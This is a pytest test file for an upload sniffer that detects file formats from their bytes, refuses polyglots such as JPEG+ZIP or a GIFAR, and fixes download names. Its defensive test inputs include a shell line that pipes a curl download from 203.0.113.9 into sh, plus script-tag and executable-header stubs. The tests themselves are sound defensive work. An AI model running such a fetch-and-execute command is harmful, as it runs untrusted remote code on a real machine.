"""File types are read from the bytes; files that are two formats at once are refused."""

import pytest
from evidence_helpers import (
    SAMPLES,
    amr,
    gif,
    heic,
    jpeg,
    m4a,
    mp3,
    mp4_video,
    pdf,
    png,
    wav,
    webp,
    zip_archive,
)

from evidence.sniff import Refused, download_name, sniff


@pytest.mark.parametrize("name", list(SAMPLES))
def test_it_accepts_every_accepted_format(name):
    build, mime, kind = SAMPLES[name]
    fmt = sniff(build())
    assert (fmt.mime, fmt.kind) == (mime, kind)


def test_it_accepts_an_android_recording_with_a_generic_mp4_brand():
    assert sniff(m4a(brand=b"isom")).mime == "audio/mp4"


def test_it_refuses_a_video():
    with pytest.raises(Refused, match="只能上传"):
        sniff(mp4_video())


@pytest.mark.parametrize(
    "data",
    [
        b"<html><script>alert(1)</script></html>",
        b"hello, this is plain text",
        gif(),
        zip_archive(),
        b"MZ\x90\x00" + bytes(100),
        b"\x7fELF" + bytes(100),
    ],
    ids=["html", "text", "gif", "zip", "exe", "elf"],
)
def test_it_refuses_what_is_not_accepted_and_says_what_is(data):
    with pytest.raises(Refused) as refused:
        sniff(data)
    assert "JPEG、PNG、WebP、HEIC" in str(refused.value)
    assert "m4a、mp3、amr、wav" in str(refused.value) and "PDF" in str(refused.value)


def test_it_refuses_an_empty_file():
    with pytest.raises(Refused, match="空文件"):
        sniff(b"")


@pytest.mark.parametrize(
    "data",
    [
        jpeg() + zip_archive(),
        jpeg() + pdf(),
        jpeg() + b"<html><body>hi</body></html>",
        jpeg() + png(),
        png() + zip_archive(),
        png() + jpeg(),
        webp() + zip_archive(),
        wav() + b"<script>alert(1)</script>",
        mp3() + zip_archive(),
        amr() + b"<!DOCTYPE html><p>x",
        pdf() + zip_archive(),
        heic() + zip_archive(),
        m4a() + pdf(),
        jpeg(comment=b"%PDF-1.4 1 0 obj"),
        jpeg(comment=b"<script src=x></script>"),
        jpeg() + b"MZ\x90\x00" + bytes(64),
    ],
    ids=[
        "jpeg+zip",
        "jpeg+pdf",
        "jpeg+html",
        "jpeg+png",
        "png+zip",
        "png+jpeg",
        "webp+zip",
        "wav+script",
        "mp3+zip",
        "amr+html",
        "pdf+zip",
        "heic+zip",
        "m4a+pdf",
        "jpeg-with-pdf-in-comment",
        "jpeg-with-script-in-comment",
        "jpeg+exe",
    ],
)
def test_it_refuses_a_file_that_is_two_formats_at_once(data):
    with pytest.raises(Refused, match="同时像好几种文件"):
        sniff(data)


def test_it_refuses_a_gifar():
    # A GIF header with a Java archive after it: the classic GIFAR. GIF is not accepted at all.
    with pytest.raises(Refused):
        sniff(gif() + zip_archive())


def test_it_refuses_a_truncated_jpeg():
    with pytest.raises(Refused, match="不完整"):
        sniff(jpeg()[:-2])


def test_it_allows_zero_padding_after_an_image():
    assert sniff(png() + bytes(16)).mime == "image/png"


def test_it_accepts_wide_band_amr():
    assert sniff(b"#!AMR-WB\n" + bytes(64)).mime == "audio/amr"


def test_it_reads_a_wav_with_an_unset_size_to_its_end():
    data = bytearray(wav())
    data[4:8] = bytes(4)
    assert sniff(bytes(data)).mime == "audio/wav"


def test_it_still_finds_a_zip_in_a_wav_with_an_unset_size():
    data = bytearray(wav())
    data[4:8] = bytes(4)
    with pytest.raises(Refused, match="同时像好几种文件"):
        sniff(bytes(data) + zip_archive())


SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
PE_AFTER_PADDING = b"\x01\x02\x03\x04This program cannot be run in DOS mode" + bytes(64)


@pytest.mark.parametrize("make", [mp3, amr, wav, m4a], ids=["mp3", "amr", "wav", "m4a"])
@pytest.mark.parametrize("appended", [SCRIPT, PE_AFTER_PADDING], ids=["script", "pe-body"])
def test_it_refuses_a_recording_with_data_after_its_container_ends(make, appended):
    with pytest.raises(Refused, match="结尾多出了一段不属于录音的数据"):
        sniff(make() + appended)


@pytest.mark.parametrize("make", [mp3, amr, wav, m4a], ids=["mp3", "amr", "wav", "m4a"])
def test_it_still_accepts_a_recording_with_zero_padding_at_its_end(make):
    assert sniff(make() + bytes(16)).kind == "audio"


def test_it_accepts_an_mp3_with_an_id3v1_tag_at_its_end():
    assert sniff(mp3() + b"TAG" + bytes(125)).mime == "audio/mpeg"


def test_it_refuses_a_wav_whose_declared_size_ends_before_a_hidden_payload():
    data = wav()
    with pytest.raises(Refused):
        sniff(data + b"\x90" * 100)  # the RIFF size still says where the real file ends


@pytest.mark.parametrize(
    ("name", "mime", "served"),
    [
        ("invoice.exe", "application/pdf", "invoice.exe.pdf"),
        ("录音.m4a", "audio/mp4", "录音.m4a"),
        ("shot.JPG", "image/jpeg", "shot.JPG"),
        ("run.bat", "audio/mpeg", "run.bat.mp3"),
        ("call.apk", "audio/amr", "call.apk.amr"),
    ],
)
def test_it_never_serves_a_name_that_does_not_end_in_the_files_real_format(name, mime, served):
    assert download_name(name, mime) == served
